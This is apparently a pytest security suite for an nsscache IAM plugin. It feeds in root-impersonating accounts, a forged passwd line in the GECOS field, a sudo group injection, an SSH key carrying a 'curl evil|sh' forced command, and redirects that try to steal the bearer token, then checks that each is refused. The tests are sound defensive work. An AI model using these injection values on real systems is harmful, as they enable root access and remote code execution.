"""Threats, each as a test.

The caches decide who logs into a shared cluster and as which uid. Each test
below is an attack or an accident an IAM directory can carry, run through the
stock ``nsscache update --full`` (the wheel installed beside nsscache 0.49)
against ``tests/support/fakeiam.py``, with the caches read back the way libnss-cache
and sshd read them (split at ``:``, exact names). The bearer token is checked
in every output, in argv and in the exception text of every failure.
"""

from __future__ import annotations

import ast
import copy
import logging
import os
import pty
import subprocess
import time
import traceback
from pathlib import Path

import pytest

from support.fakeiam import ERROR, FakeIAM, Fault
from support.faults import (
    DEMO_ORG,
    FAULT_SETTINGS,
    Scenario,
    adding,
    adding_group,
    configure,
    key,
    mallory,
    run,
    user_named,
)
from support.node import EXT, MAPS, TOKEN, Node

DEFAULT = Scenario("security", "", "", 0, "")


@pytest.fixture
def org():
    return copy.deepcopy(DEMO_ORG)


def update(tmp_path, bin_dir, org, *, groups=DEFAULT.groups, settings=None, command=("nsscache", "update", "--full")):
    """One run of ``command`` on a fresh node against ``org``."""
    scenario = Scenario("security", "", "", 0, "", groups=groups)
    with FakeIAM(org, token=TOKEN) as iam:
        node = Node(tmp_path / "node", bin_dir)
        configure(node, scenario, iam.base_url, {**FAULT_SETTINGS, **(settings or {})})
        result = run(node, *command)
    assert TOKEN not in result.stdout + result.stderr
    return node, result


def passwd_entries(node):
    """passwd.cache as getpwent() sees it: name -> the 7 fields."""
    entries = {}
    for line in node.cache("passwd").splitlines():
        fields = line.split(":")
        assert len(fields) == 7, line
        assert fields[0] not in entries, line
        entries[fields[0]] = fields
    return entries


def sshkeys_of(node, name):
    """What an exact-match reader of sshkey.cache hands sshd for ``name``."""
    for line in node.cache("sshkey").splitlines():
        entry, _, value = line.partition(":")
        if entry == name:
            return ast.literal_eval(value)
    return []


# --- identities ------------------------------------------------------------------


def test_an_iam_user_named_root_with_uid_0_and_a_key_gets_nothing(tmp_path, bin_dir, org):
    root_key = key("ed25519")
    adding(mallory(uid=0, gid=0, name="root", id="u-root", sunkSshKeys=[root_key]))(org)

    node, result = update(tmp_path, bin_dir, org)

    assert result.returncode == 0, result.stderr
    assert "coreweave: dropped user root: uid 0 (root) is never accepted" in result.stderr
    entries = passwd_entries(node)
    assert "root" not in entries
    assert all(fields[2] != "0" and fields[3] != "0" for fields in entries.values())
    assert root_key.split()[1] not in node.cache("sshkey")
    assert all("root" not in node.cache(name) for name in MAPS)


def test_a_second_root_under_another_name_is_refused(tmp_path, bin_dir, org):
    adding(mallory(uid=0, name="toor", id="u-toor", sunkSshKeys=[key("ed25519")]))(org)
    adding(mallory(uid="0", name="admin2", id="u-admin2"))(org)

    node, result = update(tmp_path, bin_dir, org)

    assert result.returncode == 0, result.stderr
    assert "dropped user toor: uid 0 (root) is never accepted" in result.stderr
    assert "dropped user admin2: uid 0 (root) is never accepted" in result.stderr
    assert all(fields[2] not in ("0", "00") for fields in passwd_entries(node).values())
    assert "toor" not in node.cache("sshkey") and "admin2" not in node.cache("passwd")


def test_the_real_root_account_cannot_be_shadowed_by_iam(tmp_path, bin_dir, org):
    # Against the host's own /etc/passwd: root is there on every node.
    adding(mallory(name="root", id="u-root", sunkSshKeys=[key("ed25519")]))(org)

    node, result = update(tmp_path, bin_dir, org, settings={"local_passwd": "/etc/passwd", "local_group": "/etc/group"})

    assert result.returncode == 0, result.stderr
    assert "dropped user root: name 'root' is a local account of this node (/etc/passwd)" in result.stderr
    assert "root" not in passwd_entries(node) and sshkeys_of(node, "root") == []


def test_a_display_name_forging_a_root_line_stays_inside_the_gecos_field(tmp_path, bin_dir, org):
    forged = "x:0:0::/root:/bin/bash\nevil"
    adding(mallory(display=forged))(org)

    node, result = update(tmp_path, bin_dir, org)

    assert result.returncode == 0, result.stderr
    entries = passwd_entries(node)  # every line: exactly 7 fields
    assert entries["mallory"] == ["mallory", "x", "20100", "20100", "x00/root/bin/bashevil", "/mnt/home/mallory",
                                  "/bin/bash"]
    assert "evil" not in entries and not any(line.startswith("evil") for line in node.cache("passwd").splitlines())
    assert len(node.cache("passwd").splitlines()) == len(entries) == 5
    assert all(fields[2] != "0" for fields in entries.values())
    assert node.cache("passwd").isascii()


@pytest.mark.parametrize(
    "where",
    [
        pytest.param({"name": {"formatted": "x:0:0::/root:/bin/bash\nevil"}}, id="name.formatted"),
        pytest.param({"name": {"givenName": "x:0:0:", "familyName": ":/root:/bin/bash\nevil"}},
                     id="given-and-family-names"),
    ],
)
def test_forged_fields_in_other_gecos_sources_are_cleaned_too(tmp_path, bin_dir, org, where):
    user = mallory()
    user.pop("displayName")
    adding(user, top=where)(org)

    node, result = update(tmp_path, bin_dir, org)

    assert result.returncode == 0, result.stderr
    gecos = passwd_entries(node)["mallory"][4]
    assert ":" not in gecos and "\n" not in gecos and "evil" in gecos


def test_names_that_mean_something_to_nss_are_refused(tmp_path, bin_dir, org):
    # '+'/'-' lines are NIS compat entries in passwd files; '.'/'..' are paths.
    for n, name in enumerate(["+", "+root", "-root", ".", "..", "root:0", "bob,root"]):
        adding(mallory(name=name, id=f"u-{n}", uid=20100 + n))(org)

    node, result = update(tmp_path, bin_dir, org)

    assert result.returncode == 0, result.stderr
    assert sorted(passwd_entries(node)) == ["alice", "bob", "erin", "frank"]
    assert result.stderr.count("is not a POSIX portable name") == 7
    assert node.cache("group") == "slurm-admins:x:30002:alice\nslurm-users:x:30001:alice,bob,erin,frank\n"


def test_ali_next_to_alice_gets_only_ali_s_own_entries(tmp_path, bin_dir, org):
    ali_key = key("ed25519-b")
    adding(mallory(name="ali", id="u-ali", uid=20200, gid=20200, display="Ali Baba", sunkSshKeys=[ali_key]))(org)
    adding(mallory(name="al", id="u-al", uid=20201, gid=20201, display="Al"))(org)  # no key at all

    node, result = update(tmp_path, bin_dir, org)

    assert result.returncode == 0, result.stderr
    entries = passwd_entries(node)
    assert sorted(entries) == ["al", "ali", "alice", "bob", "erin", "frank"]
    assert entries["ali"][2:4] == ["20200", "20200"] and entries["alice"][2:4] == ["20001", "20001"]
    # Each user's keys, and only them, under an exact name; keyless "al" has no line.
    assert [line.partition(":")[0] for line in node.cache("sshkey").splitlines()] == ["ali", "alice", "bob", "frank"]
    assert sshkeys_of(node, "ali") == [ali_key]
    assert sshkeys_of(node, "alice") == user_named(org, "alice")[EXT]["sunkSshKeys"]
    assert sshkeys_of(node, "al") == []
    assert ali_key not in node.cache("sshkey").splitlines()[1]  # alice's line
    assert node.cache("group").splitlines()[1] == "slurm-users:x:30001:al,ali,alice,bob,erin,frank"


def test_a_group_named_sudo_never_reaches_group_cache(tmp_path, bin_dir, org):
    # Listed on purpose in coreweave_groups: the node's own sudo group wins.
    adding(mallory(), to="slurm-users")(org)
    adding_group("sudo", 30027, ["mallory", "bob"])(org)

    node, result = update(tmp_path, bin_dir, org, groups="slurm-users, slurm-admins, sudo")

    assert result.returncode == 0, result.stderr
    assert "dropped group sudo: name 'sudo' is a local group of this node (/etc/group)" in result.stderr
    assert [line.split(":")[0] for line in node.cache("group").splitlines()] == ["slurm-admins", "slurm-users"]
    assert "sudo" not in node.cache("group") and "30027" not in node.cache("group")


def test_a_group_named_sudo_is_refused_against_the_real_etc_group(tmp_path, bin_dir, org):
    adding_group("sudo", 30027, ["bob"])(org)
    assert "sudo" in Path("/etc/group").read_text()  # Debian's base system has it

    node, result = update(tmp_path, bin_dir, org, groups="slurm-users, slurm-admins, sudo",
                          settings={"local_passwd": "/etc/passwd", "local_group": "/etc/group"})

    assert result.returncode == 0, result.stderr
    assert "sudo" not in node.cache("group")


def test_a_member_only_of_a_refused_group_gets_no_account(tmp_path, bin_dir, org):
    org["Users"].append(mallory())
    adding_group("sudo", 30027, ["mallory"])(org)

    node, result = update(tmp_path, bin_dir, org, groups="slurm-users, slurm-admins, sudo")

    assert result.returncode == 0, result.stderr
    assert all("mallory" not in node.cache(name) for name in MAPS)


def test_an_iam_group_cannot_take_a_local_gid(tmp_path, bin_dir, org):
    adding_group("docker-admins", 1000, ["bob"])(org)  # the node's localadmin group has gid 1000

    node, result = update(tmp_path, bin_dir, org, groups="slurm-users, slurm-admins, docker-admins")

    assert result.returncode == 0, result.stderr
    assert "dropped group docker-admins: gid 1000 belongs to a local group of this node" in result.stderr
    assert ":1000:" not in node.cache("group")


def test_an_option_smuggled_into_a_key_never_reaches_sshd(tmp_path, bin_dir, org):
    forced = 'command="/bin/sh -c \'curl evil|sh\'" ' + key("ed25519")
    smuggled = key("ed25519") + "\n" + 'command="/bin/sh" ' + key("ed25519-b")
    adding(mallory(sunkSshKeys=[forced, smuggled, key("ed25519-b")]))(org)

    node, result = update(tmp_path, bin_dir, org)

    assert result.returncode == 0, result.stderr
    # Each line of a value is a key of its own: the plain first line of the smuggling value is
    # kept, the line carrying command= is dropped like the forced one.
    assert sshkeys_of(node, "mallory") == [key("ed25519"), key("ed25519-b")]
    assert "command=" not in node.cache("sshkey") and "evil" not in node.cache("sshkey")


# --- the bearer token ------------------------------------------------------------------


def every_output(node, *results) -> str:
    texts = [r.stdout + r.stderr for r in results]
    for path in node.root.rglob("*"):
        if path.is_file() and path != node.token_file:
            texts.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(texts)


FAILURES = [
    pytest.param(lambda iam, other: iam.add_fault(Fault.error("Users", 2, 503, times=None)), id="503"),
    pytest.param(lambda iam, other: setattr(iam, "token", "rotated"), id="401"),
    pytest.param(lambda iam, other: iam.add_fault(Fault.error("Groups", 1, 401, times=None, body={
        "schemas": [ERROR], "status": "401", "detail": f"token {TOKEN} is not valid here"})),
                 id="401-echoing-the-token"),
    pytest.param(lambda iam, other: iam.add_fault(Fault.error("Users", 1, 500, times=None, body={
        "schemas": [ERROR], "status": "500", "detail": f"Authorization: Bearer {TOKEN}"})),
                 id="500-echoing-the-header"),
    pytest.param(lambda iam, other: iam.add_fault(Fault.redirect("Users", 1, times=None,
        location=f"http://localhost:{other.port}/steal?token={TOKEN}")), id="redirect-carrying-the-token"),
    pytest.param(lambda iam, other: iam.add_fault(Fault.not_json("Users", 1, times=None,
        body=f"<html>{TOKEN}</html>".encode())), id="page-echoing-the-token"),
    pytest.param(lambda iam, other: iam.add_fault(Fault.stall("Groups", 1, seconds=3, times=None)), id="timeout"),
    pytest.param(lambda iam, other: iam.add_fault(Fault.cut_mid_body("Users", 1, times=None)), id="reset"),
]


@pytest.mark.parametrize("inject", FAILURES)
def test_the_token_appears_in_no_output_of_any_failure(tmp_path, bin_dir, org, inject):
    with FakeIAM(org, token=TOKEN) as iam, FakeIAM({"Users": [], "Groups": []}) as other:
        node = Node(tmp_path / "node", bin_dir)
        configure(node, DEFAULT, iam.base_url, {**FAULT_SETTINGS, "timeout": "1", "retries": "0"})
        inject(iam, other)
        stock = run(node, "nsscache", "update", "--full")
        ours = run(node, "nsscache-coreweave", "-v", "update")
        check = run(node, "nsscache-coreweave", "-v", "check")
        preview = run(node, "nsscache-coreweave", "preview", "passwd")

    assert stock.returncode != 0 and ours.returncode != 0 and check.returncode != 0 and preview.returncode != 0
    assert "coreweave" in stock.stderr  # it did say something
    assert TOKEN not in every_output(node, stock, ours, check, preview)
    assert all(not r.authorization_sent for r in other.requests())


def test_the_token_appears_in_no_output_of_a_good_run(tmp_path, bin_dir, org):
    with FakeIAM(org, token=TOKEN) as iam:
        node = Node(tmp_path / "node", bin_dir)
        configure(node, DEFAULT, iam.base_url, FAULT_SETTINGS)
        results = [
            run(node, "nsscache", "update", "--full"),
            run(node, "nsscache-coreweave", "-v", "update"),
            run(node, "nsscache-coreweave", "-v", "check", "--sample"),
            *(run(node, "nsscache-coreweave", "-v", "preview", name) for name in MAPS),
        ]
    assert [r.returncode for r in results] == [0] * len(results), [r.stderr for r in results]
    assert TOKEN not in every_output(node, *results)


def test_check_sample_never_hands_the_token_to_another_host(tmp_path, bin_dir, org):
    with FakeIAM(org, token=TOKEN) as iam, FakeIAM({"Users": [], "Groups": []}) as other:
        node = Node(tmp_path / "node", bin_dir)
        configure(node, DEFAULT, iam.base_url, FAULT_SETTINGS)
        iam.add_fault(Fault.redirect("Users", 1, location=f"http://localhost:{other.port}/scim/cw-demo/Users",
                                     times=None))
        result = run(node, "nsscache-coreweave", "check", "--sample")
    assert TOKEN not in result.stdout + result.stderr
    assert all(not r.authorization_sent for r in other.requests()), other.requests()


def test_the_token_is_never_in_argv_or_the_environment(tmp_path, bin_dir, org):
    with FakeIAM(org, token=TOKEN) as iam:
        node = Node(tmp_path / "node", bin_dir)
        configure(node, DEFAULT, iam.base_url, FAULT_SETTINGS)
        stall = iam.add_fault(Fault.stall("Users", 1, seconds=3))
        env = {k: v for k, v in os.environ.items() if not k.startswith("NSSCACHE_")}
        primary, secondary = pty.openpty()  # a terminal: nsscache logs to stderr, not syslog
        process = subprocess.Popen(
            [str(node.bin / "nsscache"), "-c", str(node.conf), "update", "--full"],
            stdin=secondary, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
        )
        try:
            # Wait, with a deadline, until it has read its token and asked for Users.
            deadline = time.monotonic() + 30
            while stall.fired == 0 and process.poll() is None and time.monotonic() < deadline:
                time.sleep(0.01)
            assert stall.fired == 1, "nsscache never asked for Users"
            cmdline = Path(f"/proc/{process.pid}/cmdline").read_bytes()
            environ = Path(f"/proc/{process.pid}/environ").read_bytes()
        finally:
            _, stderr = process.communicate(timeout=60)
            os.close(primary)
            os.close(secondary)
    assert process.returncode == 0, stderr
    assert TOKEN.encode() not in stderr
    assert TOKEN.encode() not in cmdline and TOKEN.encode() not in environ
    assert str(node.conf).encode() in cmdline  # it is the right process
    assert TOKEN not in node.conf.read_text()
    assert node.token_file.stat().st_mode & 0o077 == 0


@pytest.mark.parametrize("inject", FAILURES)
def test_the_token_is_in_no_exception_text(tmp_path, org, inject, monkeypatch, caplog):
    """In process: the exception nsscache gets, its whole chain and its
    traceback, and every log record, for every kind of failure."""
    from nss_cache import error

    from nss_cache_coreweave import run, source

    monkeypatch.setattr(run, "_CACHE", {})
    caplog.set_level(logging.DEBUG)
    token_file = tmp_path / "token"
    token_file.write_text(TOKEN)
    token_file.chmod(0o600)
    with FakeIAM(org, token=TOKEN) as iam, FakeIAM({"Users": [], "Groups": []}) as other:
        inject(iam, other)
        conf = {
            "name": "coreweave", "base_url": iam.base_url, "token_file": str(token_file),
            "groups": "slurm-users", "page_size": 2, "retries": 1, "max_retry_wait": 0.1, "timeout": 1,
            "state_dir": str(tmp_path / "state"), "allowed_shells": "/bin/bash, /bin/zsh",
        }
        with pytest.raises((error.SourceUnavailable, error.InvalidMap)) as caught:
            source.CoreWeaveSource(conf).GetPasswdMap()
    raised = caught.value
    texts = [caplog.text, "".join(traceback.format_exception(type(raised), raised, raised.__traceback__))]
    e = caught.value
    while e is not None:
        texts.append(f"{e!s} {e!r} {e.args!r}")
        e = e.__cause__ or e.__context__
    assert TOKEN not in "\n".join(texts)


# --- the bearer token at every verbosity, whatever its source -------------------

# token source -> (nsscache.conf settings, environment)
TOKEN_SOURCES = {
    "coreweave_token": ({"token_file": None, "token": TOKEN}, {}),
    "coreweave_token_file": ({}, {}),
    "NSSCACHE_COREWEAVE_TOKEN": ({"token_file": None}, {"NSSCACHE_COREWEAVE_TOKEN": TOKEN}),
    "NSSCACHE_SCIM_AUTH_TOKEN": ({"token_file": None}, {"NSSCACHE_SCIM_AUTH_TOKEN": TOKEN}),
}


def outputs_but_the_conf(node, result) -> str:
    """stdout, stderr and every file the run left, but nsscache.conf (which
    holds an inline token) and the token file."""
    texts = [result.stdout, result.stderr]
    for path in node.root.rglob("*"):
        if path.is_file() and path not in (node.token_file, node.conf):
            texts.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(texts)


@pytest.mark.parametrize("command", [("status",), ("update",), ("check",), ("preview", "passwd")], ids=" ".join)
@pytest.mark.parametrize("token_source", TOKEN_SOURCES)
def test_verbose_commands_never_print_the_token(tmp_path, bin_dir, org, token_source, command):
    settings, env = TOKEN_SOURCES[token_source]
    with FakeIAM(org, token=TOKEN) as iam:
        node = Node(tmp_path / "node", bin_dir)
        configure(node, DEFAULT, iam.base_url, {**FAULT_SETTINGS, **settings})
        result = run(node, "nsscache-coreweave", "-v", *command, env=env)

    assert result.returncode == 0, result.stdout + result.stderr
    assert TOKEN not in outputs_but_the_conf(node, result)
    if command != ("status",):  # the token was read and sent (status needs none)
        assert iam.request_count() > 0 and all(r.authorized for r in iam.requests())
    if command == ("update",) and os.path.exists("/dev/log"):
        return  # logged to syslog: tests/unit/test_cli_logging.py reads that
    assert "DEBUG loaded configuration: <Config:" in result.stderr  # nsscache's dump of nsscache.conf ...
    if token_source == "coreweave_token":
        assert "'token': '<redacted>'" in result.stderr  # ... with the inline value replaced


@pytest.mark.parametrize("flag", ["-v", "-d"])
@pytest.mark.parametrize("token_source", TOKEN_SOURCES)
def test_stock_nsscache_never_prints_the_token(tmp_path, bin_dir, org, token_source, flag):
    """nsscache -d logs its whole configuration (config.LoadConfig), an inline
    token with it; the source, imported with nsscache's source factory before
    that, filters nsscache's config logger."""
    settings, env = TOKEN_SOURCES[token_source]
    with FakeIAM(org, token=TOKEN) as iam:
        node = Node(tmp_path / "node", bin_dir)
        configure(node, DEFAULT, iam.base_url, {**FAULT_SETTINGS, **settings})
        result = run(node, "nsscache", flag, "update", "--full", env=env)

    assert result.returncode == 0, result.stderr
    assert TOKEN not in outputs_but_the_conf(node, result)
    assert iam.request_count() > 0 and all(r.authorized for r in iam.requests())
    if flag == "-d":
        assert "loaded configuration: <Config:" in result.stderr
        if token_source == "coreweave_token":
            assert "'token': '<redacted>'" in result.stderr


def test_check_sample_does_not_follow_a_redirect(tmp_path, bin_dir, org):
    with FakeIAM(org, token=TOKEN) as iam, FakeIAM({"Users": [], "Groups": []}) as other:
        node = Node(tmp_path / "node", bin_dir)
        configure(node, DEFAULT, iam.base_url, FAULT_SETTINGS)
        iam.add_fault(Fault("Users", 1))  # the listing's first Users page is answered as usual ...
        redirect = iam.add_fault(Fault.redirect(  # ... the sample's (page 1 too) is redirected
            "Users", 1, times=None, location=f"http://localhost:{other.port}/scim/cw-demo/Users"))
        result = run(node, "nsscache-coreweave", "check", "--sample")
        other_port = other.port

    assert other.requests() == []
    assert redirect.fired == 1
    assert iam.requests("Users")[-1].target == "/scim/cw-demo/Users?startIndex=1&count=1"
    lines = result.stdout.splitlines()
    assert (
        f"sample User: cannot be read: Users page 1: HTTP 302 redirect to localhost:{other_port}: refusing to follow "
        "it (the bearer token must not go anywhere else); set coreweave_base_url to the final URL"
    ) in lines
    assert "sample Group:" in lines  # the Group sample is still read
    assert result.returncode == 75, result.stdout  # as a listing that meets a redirect
    assert TOKEN not in result.stdout + result.stderr


def test_check_refuses_plain_http_to_a_host_that_is_not_loopback(tmp_path, bin_dir):
    node = Node(tmp_path / "node", bin_dir)
    configure(node, DEFAULT, "http://iam.example.com/scim/cw-demo", FAULT_SETTINGS)

    result = run(node, "nsscache-coreweave", "check")

    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stdout.splitlines() == [
        "configuration: invalid configuration: coreweave_base_url must use https:// for host 'iam.example.com': "
        "http:// is accepted only for a loopback test server (localhost, 127.0.0.0/8, ::1), "
        "got 'http://iam.example.com/scim/cw-demo'"
    ]
